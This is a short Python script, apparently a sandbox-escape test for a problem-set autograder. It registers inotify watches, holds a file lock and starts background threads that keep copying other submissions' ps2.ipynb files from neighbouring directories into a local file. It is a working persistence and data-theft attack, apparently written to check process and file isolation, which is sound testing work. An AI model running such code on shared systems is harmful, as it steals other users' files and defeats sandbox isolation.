# Leaves a thread, a lock on a file and a watched folder behind in the hope of seeing the next submission's files come in.
# pset: ps2
# wall: files processes
import ctypes, fcntl, os, threading, time

libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0)
for place in (b"..", b"../..", b"/tmp", b"/dev/shm", b"/", os.getcwd().encode()):
    libc.inotify_add_watch(watch, place, 0xFFF)
lock = open("held", "w")
fcntl.flock(lock, fcntl.LOCK_EX)

def look():
    while True:
        for place in ("..", "../..", "/dev/shm"):
            try:
                for name in os.listdir(place):
                    with open(f"{place}/{name}/ps2.ipynb", "rb") as theirs, open("copy", "ab") as ours:
                        ours.write(theirs.read())
            except OSError:
                time.sleep(0.001)

for _ in range(6):
    threading.Thread(target=look, daemon=True).start()
